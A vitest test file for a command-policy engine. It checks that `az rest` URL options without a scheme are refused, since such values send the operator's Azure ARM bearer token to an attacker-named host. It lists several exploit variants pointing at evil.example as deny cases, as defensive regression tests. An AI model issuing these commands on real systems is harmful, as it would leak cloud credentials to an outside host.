/**
 * `az rest --url` without a scheme (red team azg F5). azure-cli's send_raw_request
 * (src/azure-cli-core/azure/cli/core/util.py) does `if '://' not in url: url =
 * endpoints.resource_manager.rstrip('/') + url`, then, since the result starts with
 * the ARM endpoint, attaches the operator's ARM bearer token. So `--url
 * .evil.example/x` sends the token to https://management.azure.com.evil.example/x,
 * a host the attacker names. Torii refused `https://evil` (fetched_values) but not
 * this. A `rest` URL option must now be a path (start with `/`) in every spelling
 * (`--url`, `--uri`, `-u`, prefixes, `=`, glued short). Through the bundled az
 * provider as the server builds it; the row field on its own too.
 */
import { describe, expect, it } from "vitest";
import { providerFileSchema } from "../../../src/config/provider-schema.js";
import { compilePolicy } from "../../../src/policy/compile.js";
import { evaluatePolicy } from "../../../src/policy/evaluate.js";
import { providerPolicyContext } from "../../../src/config/policy-context.js";
import { bundledPolicyContext, bundledProviderConfig, ruleList } from "../../support/policy-helpers.js";

/**
 * The bundled az locks `rest` as a command (az-tenant-scope.test.ts): the URL row is
 * defence in depth for a tree whose operator removed that row, as this one did.
 */
function withoutRestLock() {
  const config = bundledProviderConfig("az");
  const targeting = config.targeting;
  if (targeting?.locked_commands === undefined) throw new Error("the bundled az has no locked_commands");
  targeting.locked_commands = targeting.locked_commands.filter((row) => row.command.join(" ") !== "rest");
  return providerPolicyContext(config);
}
const az = withoutRestLock();
const decide = (argv: readonly string[]) => evaluatePolicy(compilePolicy(az, { shared: ruleList([], ["rest"]) }), argv).decision;

describe("az rest: the bundled provider locks the command", () => {
  it("rest is refused before any rule, a path URL too", () => {
    const bundled = compilePolicy(bundledPolicyContext("az"), { shared: ruleList([], ["rest"]) });
    expect(evaluatePolicy(bundled, ["rest", "--url", "/providers?api-version=2021-04-01"]).decision).toMatchObject({
      result: "deny",
      source: "locked-command",
    });
  });
});

describe("az rest: a URL without a scheme stays on the ARM host (the rest row lifted)", () => {
  it.each(
    [
      ["rest", "--url", ".evil.example/x"],
      ["rest", "--url=.evil.example/x"],
      ["rest", "--uri", ".evil.example/x"],
      ["rest", "-u", ".evil.example/x"],
      ["rest", "-u.evil.example/x"],
      ["rest", "--ur", "-evil.example/x"],
      ["rest", "--method", "get", "--url", "/providers?api-version=1", "--url", ".evil.example/x"],
      ["rest", "--url", ":443@evil.example/x"],
      ["rest", "--url"],
      ["rest", "--url", "https://evil.example/x"],
    ].map((argv) => [argv.join(" "), argv] as const),
  )("%s is refused", (_, argv) => {
    const decision = decide(argv);
    expect(decision).toMatchObject({ result: "deny", source: "locked-option" });
    expect(decision.reason).toMatch(/ARM host/u);
  });

  it("a path on the ARM host stays up to the rules, and --uri-parameters is its own option", () => {
    expect(decide(["rest", "--url", "/providers?api-version=2021-04-01"]).result).toBe("accept");
    expect(decide(["rest", "-u", "/providers", "--uri-parameters", "api-version=2021-04-01"]).result).toBe("accept");
  });

  it("value_prefix is a row field of argv.locked_command_options", () => {
    const base = { version: "1", name: "p", tool: "p", command: "p" };
    const withRow = (row: object) => providerFileSchema.safeParse({ ...base, argv: { parser: "argparse", locked_command_options: [row] } }).success;
    expect(withRow({ command: ["rest"], options: ["--url"], value_prefix: "/" })).toBe(true);
    expect(withRow({ command: ["rest"], options: ["--url"], value_prefix: "" })).toBe(false);
  });
});
